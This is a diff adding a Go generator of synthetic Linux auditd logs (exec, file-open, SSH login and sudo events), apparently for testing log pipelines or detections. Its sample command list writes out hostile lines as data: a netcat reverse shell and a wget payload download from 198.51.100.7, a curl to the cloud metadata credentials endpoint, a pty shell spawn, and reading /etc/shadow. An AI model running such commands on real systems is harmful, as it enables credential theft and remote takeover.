@@ -0,0 +1,329 @@
+package internal
+
+import (
+	"encoding/hex"
+	"fmt"
+	"math/rand/v2"
+	"strconv"
+	"strings"
+	"time"
+
+	"data-gen/conf"
+)
+
+const (
+	auditdFormatRaw      = "raw"
+	auditdFormatEnriched = "enriched"
+
+	auditdEventExec      = "exec"
+	auditdEventOpen      = "open"
+	auditdEventUserLogin = "user_login"
+	auditdEventUserCmd   = "user_cmd"
+
+	// auditdUnset is the audit UID & session of processes not belonging to a login session
+	auditdUnset = 4294967295
+	// auditdProctitleMax is the length proctitle values are truncated to
+	auditdProctitleMax = 128
+	// auditdEnrichSeparator separates raw fields from interpreted fields of enriched records
+	auditdEnrichSeparator = "\x1d"
+)
+
+// auditdUser is a local account with the same user & group ID.
+type auditdUser struct {
+	name string
+	id   int
+}
+
+var auditdUsers = []auditdUser{{"alice", 1000}, {"bob", 1001}, {"deploy", 1002}, {"ubuntu", 1003}}
+
+// auditdCommand is a program execution, where the first argument is resolved to exe.
+type auditdCommand struct {
+	exe  string
+	args []string
+}
+
+var auditdCommands = []auditdCommand{
+	{"/usr/bin/ls", []string{"ls", "-la", "/var/log"}},
+	{"/usr/bin/cat", []string{"cat", "/etc/os-release"}},
+	{"/usr/bin/whoami", []string{"whoami"}},
+	{"/usr/bin/id", []string{"id"}},
+	{"/usr/bin/curl", []string{"curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}},
+	{"/usr/bin/bash", []string{"bash", "-c", "echo hello world > /tmp/out.txt"}},
+	{"/usr/bin/wget", []string{"wget", "http://198.51.100.7/x.sh", "-O", "/tmp/x.sh"}},
+	{"/usr/bin/nc.openbsd", []string{"nc", "-e", "/bin/sh", "198.51.100.7", "4444"}},
+	{"/usr/bin/python3.12", []string{"python3", "-c", `import pty; pty.spawn("/bin/bash")`}},
+	{"/usr/bin/crontab", []string{"crontab", "-l"}},
+}
+
+// auditdWatch is a file watched by an audit rule, along with the rule key.
+type auditdWatch struct {
+	path string
+	key  string
+	mode string
+}
+
+var auditdWatches = []auditdWatch{
+	{"/etc/shadow", "identity", "0100640"},
+	{"/etc/passwd", "identity", "0100644"},
+	{"/etc/sudoers", "actions", "0100440"},
+	{"/etc/ssh/sshd_config", "sshd_config", "0100600"},
+	{"/root/.ssh/authorized_keys", "ssh_keys", "0100600"},
+}
+
+var auditdSudoCommands = [][]string{
+	{"/usr/bin/systemctl", "restart", "nginx"},
+	{"/usr/bin/apt-get", "update"},
+	{"/usr/bin/cat", "/etc/shadow"},
+	{"/usr/bin/journalctl", "-u", "ssh.service"},
+	{"/usr/bin/su", "-"},
+}
+
+// AuditdGen generates Linux audit daemon logs, as written to /var/log/audit/audit.log.
+// Each data point is a single event, whose records share the audit(<timestamp>:<serial>) event ID.
+type AuditdGen struct {
+	buf      trackedBuffer
+	enriched bool
+	serial   uint64
+}
+
+// auditdCfg specifies the auditd log_format, where enriched records carry interpreted fields.
+type auditdCfg struct {
+	LogFormat string `yaml:"log_format"`
+}
+
+func NewAuditdGen(input conf.InputConfig) (*AuditdGen, error) {
+	cfg := auditdCfg{LogFormat: auditdFormatRaw}
+
+	err := input.Conf.Decode(&cfg)
+	if err != nil {
+		return nil, fmt.Errorf("failed to decode auditd configuration: %w", err)
+	}
+
+	if cfg.LogFormat != auditdFormatRaw && cfg.LogFormat != auditdFormatEnriched {
+		return nil, fmt.Errorf("unknown auditd log format: %s", cfg.LogFormat)
+	}
+
+	return &AuditdGen{
+		buf:      newTrackedBuffer(),
+		enriched: cfg.LogFormat == auditdFormatEnriched,
+		serial:   uint64(rand.IntN(100_000)),
+	}, nil
+}
+
+func (a *AuditdGen) Generate() (int64, error) {
+	a.serial++
+	c := newAuditdCustomizer(a.serial)
+
+	err := a.buf.write([]byte(strings.Join(buildAuditdRecords(c, a.enriched), "\n") + "\n"))
+	if err != nil {
+		return 0, err
+	}
+
+	return a.buf.size(), nil
+}
+
+func (a *AuditdGen) GetAndReset() []byte {
+	return a.buf.getAndReset()
+}
+
+func (a *AuditdGen) RecordTimestamp(record string) (time.Time, bool) {
+	return auditdTimestamp(record)
+}
+
+// auditdTimestamp parses the timestamp of the audit event ID, ex:- msg=audit(1364481363.243:24287).
+func auditdTimestamp(line string) (time.Time, bool) {
+	_, id, found := strings.Cut(line, "msg=audit(")
+	if !found {
+		return time.Time{}, false
+	}
+
+	seconds, rest, found := strings.Cut(id, ".")
+	if !found || len(rest) < 3 {
+		return time.Time{}, false
+	}
+
+	sec, err := strconv.ParseInt(seconds, 10, 64)
+	if err != nil {
+		return time.Time{}, false
+	}
+	millis, err := strconv.ParseInt(rest[:3], 10, 64)
+	if err != nil {
+		return time.Time{}, false
+	}
+
+	return time.Unix(sec, millis*int64(time.Millisecond)), true
+}
+
+// auditdCustomizer holds parameters of a single audit event.
+type auditdCustomizer struct {
+	event    string
+	time     time.Time
+	serial   uint64
+	user     auditdUser
+	session  int
+	tty      int
+	pid      int
+	ppid     int
+	command  auditdCommand
+	watch    auditdWatch
+	success  bool
+	addr     string
+	acct     string
+	inode    int
+	cwd      string
+	syscallA [4]uint64
+}
+
+func newAuditdCustomizer(serial uint64) auditdCustomizer {
+	user := auditdUsers[rand.IntN(len(auditdUsers))]
+
+	c := auditdCustomizer{
+		time:    time.Now().UTC(),
+		serial:  serial,
+		user:    user,
+		session: rand.IntN(200) + 1,
+		tty:     rand.IntN(4),
+		pid:     rand.IntN(60000) + 1000,
+		ppid:    rand.IntN(60000) + 1000,
+		command: auditdCommands[rand.IntN(len(auditdCommands))],
+		watch:   auditdWatches[rand.IntN(len(auditdWatches))],
+		success: true,
+		addr:    randomIP(),
+		acct:    user.name,
+		inode:   rand.IntN(4_000_000) + 100_000,
+		cwd:     "/home/" + user.name,
+		syscallA: [4]uint64{
+			0x550000000000 + uint64(rand.IntN(0xffffffff)),
+			0x550000000000 + uint64(rand.IntN(0xffffffff)),
+			0x550000000000 + uint64(rand.IntN(0xffffffff)),
+			uint64(rand.IntN(16)),
+		},
+	}
+
+	switch n := rand.IntN(100); {
+	case n < 45:
+		c.event = auditdEventExec
+	case n < 65:
+		c.event = auditdEventOpen
+		// unprivileged reads are denied unless the watched file is world readable
+		c.success = c.watch.mode[len(c.watch.mode)-1] >= '4'
+	case n < 85:
+		c.event = auditdEventUserLogin
+		c.success = rand.IntN(3) == 0
+		if !c.success {
+			c.acct = []string{"root", "(invalid user)", "admin"}[rand.IntN(3)]
+		}
+	default:
+		c.event = auditdEventUserCmd
+		c.command = auditdCommand{args: auditdSudoCommands[rand.IntN(len(auditdSudoCommands))]}
+	}
+
+	return c
+}
+
+// buildAuditdRecords renders the records of the event, in the order auditd writes them.
+func buildAuditdRecords(c auditdCustomizer, enriched bool) []string {
+	id := fmt.Sprintf("audit(%d.%03d:%d)", c.time.Unix(), c.time.Nanosecond()/int(time.Millisecond), c.serial)
+	record := func(recordType string, fields string, interpreted string) string {
+		line := fmt.Sprintf("type=%s msg=%s: %s", recordType, id, fields)
+		if enriched && interpreted != "" {
+			line += auditdEnrichSeparator + interpreted
+		}
+		return line
+	}
+
+	name := c.user.name
+	switch c.event {
+	case auditdEventUserLogin:
+		if !c.success {
+			return []string{record("USER_LOGIN",
+				fmt.Sprintf("pid=%d uid=0 auid=%d ses=%d subj=unconfined msg='op=login acct=%s exe=\"/usr/sbin/sshd\" hostname=? addr=%s terminal=ssh res=failed'",
+					c.pid, auditdUnset, auditdUnset, auditdString(c.acct), c.addr),
+				`UID="root" AUID="unset"`)}
+		}
+		return []string{record("USER_LOGIN",
+			fmt.Sprintf("pid=%d uid=0 auid=%d ses=%d subj=unconfined msg='op=login id=%d exe=\"/usr/sbin/sshd\" hostname=? addr=%s terminal=/dev/pts/%d res=success'",
+				c.pid, c.user.id, c.session, c.user.id, c.addr, c.tty),
+			fmt.Sprintf(`UID="root" AUID="%s" ID="%s"`, name, name))}
+	case auditdEventUserCmd:
+		return []string{record("USER_CMD",
+			fmt.Sprintf("pid=%d uid=%d auid=%d ses=%d subj=unconfined msg='cwd=%s cmd=%s exe=\"/usr/bin/sudo\" terminal=pts/%d res=success'",
+				c.pid, c.user.id, c.user.id, c.session, auditdString(c.cwd), auditdString(strings.Join(c.command.args, " ")), c.tty),
+			fmt.Sprintf(`UID="%s" AUID="%s"`, name, name))}
+	}
+
+	syscall, syscallName, items := 59, "execve", 2
+	exit := "0"
+	key := "exec"
+	comm, exe := c.command.args[0], c.command.exe
+	args := c.command.args
+	if c.event == auditdEventOpen {
+		syscall, syscallName, items = 257, "openat", 1
+		// openat relative to the working directory (AT_FDCWD)
+		c.syscallA[0] = 0xffffff9c
+		exit = "3"
+		if !c.success {
+			exit = "-13"
+		}
+		key = c.watch.key
+		comm, exe = "cat", "/usr/bin/cat"
+		args = []string{"cat", c.watch.path}
+	}
+
+	success := "yes"
+	if !c.success {
+		success = "no"
+	}
+
+	ids := fmt.Sprintf("auid=%d uid=%d gid=%d euid=%d suid=%d fsuid=%d egid=%d sgid=%d fsgid=%d",
+		c.user.id, c.user.id, c.user.id, c.user.id, c.user.id, c.user.id, c.user.id, c.user.id, c.user.id)
+	records := []string{record("SYSCALL",
+		fmt.Sprintf("arch=c000003e syscall=%d success=%s exit=%s a0=%x a1=%x a2=%x a3=%x items=%d ppid=%d pid=%d %s tty=pts%d ses=%d comm=%s exe=%s subj=unconfined key=%s",
+			syscall, success, exit, c.syscallA[0], c.syscallA[1], c.syscallA[2], c.syscallA[3], items, c.ppid, c.pid, ids, c.tty, c.session,
+			auditdString(comm), auditdString(exe), auditdString(key)),
+		fmt.Sprintf(`ARCH=x86_64 SYSCALL=%s AUID="%s" UID="%s" GID="%s" EUID="%s" SUID="%s" FSUID="%s" EGID="%s" SGID="%s" FSGID="%s"`,
+			syscallName, name, name, name, name, name, name, name, name, name))}
+
+	if c.event == auditdEventExec {
+		var execArgs []string
+		for i, arg := range args {
+			execArgs = append(execArgs, fmt.Sprintf("a%d=%s", i, auditdString(arg)))
+		}
+		records = append(records, record("EXECVE", fmt.Sprintf("argc=%d %s", len(args), strings.Join(execArgs, " ")), ""))
+	}
+
+	records = append(records, record("CWD", "cwd="+auditdString(c.cwd), ""))
+
+	if c.event == auditdEventExec {
+		records = append(records,
+			record("PATH", auditdPath(0, exe, c.inode, "0100755"), `OUID="root" OGID="root"`),
+			record("PATH", auditdPath(1, "/lib64/ld-linux-x86-64.so.2", c.inode+7, "0100755"), `OUID="root" OGID="root"`))
+	} else {
+		records = append(records, record("PATH", auditdPath(0, c.watch.path, c.inode, c.watch.mode), `OUID="root" OGID="root"`))
+	}
+
+	proctitle := strings.Join(args, "\x00")
+	if len(proctitle) > auditdProctitleMax {
+		proctitle = proctitle[:auditdProctitleMax]
+	}
+
+	return append(records, record("PROCTITLE", "proctitle="+auditdString(proctitle), ""))
+}
+
+// auditdPath renders the fields of a PATH record for a root owned file.
+func auditdPath(item int, name string, inode int, mode string) string {
+	return fmt.Sprintf("item=%d name=%s inode=%d dev=fd:01 mode=%s ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
+		item, auditdString(name), inode, mode)
+}
+
+// auditdString encodes untrusted strings the same way the kernel does.
+// Values containing quotes, spaces, control or non-ASCII characters are hex encoded, while others are quoted.
+func auditdString(value string) string {
+	for _, b := range []byte(value) {
+		if b == '"' || b < 0x21 || b > 0x7e {
+			return strings.ToUpper(hex.EncodeToString([]byte(value)))
+		}
+	}
+
+	return `"` + value + `"`
+}